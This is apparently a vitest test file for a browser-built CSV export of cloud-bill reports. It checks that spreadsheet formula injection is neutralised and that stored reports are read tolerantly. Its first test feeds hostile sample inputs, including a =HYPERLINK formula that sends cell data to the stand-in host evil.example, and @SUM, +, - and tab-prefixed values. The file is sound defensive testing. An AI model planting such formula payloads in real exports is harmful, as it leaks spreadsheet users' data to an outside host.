// The report page's cloud-bill CSV is built in the browser: it goes through the project's one CSV writer
// (shared/csv), so names and titles that a spreadsheet would run as formulas come out as text
// (docs/SECURITY.md, "Client-built CSV").
import { describe, expect, it } from 'vitest';
import { billsCsv, storedBills } from '../../client/src/session/bills.js';
import type { RaceBill } from '../../shared/protocol/index.js';
import { csvCell, toCsv } from '../../shared/csv/index.js';
import { csvCell as serverCsvCell } from '../../server/reports/index.js';

const bill = (name: string, title: string): RaceBill => ({
  step: 2,
  owner: { kind: 'player', id: 'p1', name },
  scenarioId: 's1',
  scenarioTitle: title,
  bill: {
    deployments: 2,
    reserved: { cpu: 4, ramGb: 8, diskGb: 40 },
    used: { cpu: 2, ramGb: 4, diskGb: 20 },
    onPremCostPerHour: 1.5,
    offPremCostPerHour: -0.25,
    opsHoursPerMonth: 3,
    downtimeMinutes: 0,
    deployPoints: 400,
    eventPoints: 20,
    auditPoints: 0,
    points: 420,
  },
  best: null,
});

/** Every field of a CSV document (RFC 4180 with quotes), to look at each cell as a spreadsheet would. */
function fields(csv: string): string[] {
  const out: string[] = [];
  const re = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
  for (const m of csv
    .replace(/^\uFEFF/, '')
    .replace(/\r\n$/, '')
    .matchAll(re))
    out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : (m[2] ?? ''));
  return out;
}

describe('CSV built in the browser', () => {
  it('neutralises formulas in names and titles (=HYPERLINK, @SUM, +1+2, -cmd)', () => {
    const csv = billsCsv([
      bill('=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(A1:A9)'),
      bill('+1+2', '-2+3'),
      bill(' =1+1', '\tcmd'),
    ]);
    const cells = fields(csv);
    for (const cell of cells.filter((c) => !/^-?\d+(\.\d+)?$/.test(c))) expect(cell, csv).not.toMatch(/^\s*[=+\-@]/);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(cells).toContain("'@SUM(A1:A9)");
    expect(cells).toContain("'+1+2");
    // A number is a number: the negative cost stays -0.25.
    expect(cells).toContain('-0.25');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('is the same writer as the server report.csv', () => {
    for (const v of ['=1', '@x', '+1', '-x', ' =1', '\n=1', '＝1', 'plain', 'a,b', 'say "hi"', 5, -3, null, true]) {
      expect(serverCsvCell(v)).toBe(csvCell(v));
    }
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(toCsv([['a', 1]])).toBe('\uFEFFa,1\r\n');
  });
});

describe("a stored report's bills (stored data, read tolerantly)", () => {
  const money = bill('Ada', 'Web shop').bill;

  it("reads today's reports (a flat list of protocol bills) as they are", () => {
    const stored = [
      bill('Ada', 'Web shop'),
      { ...bill('Team 2', 'Web shop'), owner: { kind: 'team', id: 't2', name: 'Team 2' } },
    ];
    expect(storedBills(JSON.parse(JSON.stringify(stored)))).toEqual(stored);
  });

  it('reads one entry per race, with the race best-known plan for bills without their own, by its points', () => {
    const race = {
      bills: [{ owner: 'room', name: 'class', scenarioId: 's1', scenarioTitle: 'Web shop', mine: money }],
      best: { ...money, points: 500 },
    };
    expect(storedBills([race])).toEqual([
      {
        step: 0,
        scenarioId: 's1',
        scenarioTitle: 'Web shop',
        owner: { kind: 'class', id: 'room', name: 'class' },
        bill: money,
        best: { ...money, points: 500, score: 500 },
      },
    ]);
  });

  it('skips what is not a bill', () => {
    expect(storedBills(undefined)).toEqual([]);
    expect(storedBills([{ owner: 'p1' }, 'x', null])).toEqual([]);
  });
});
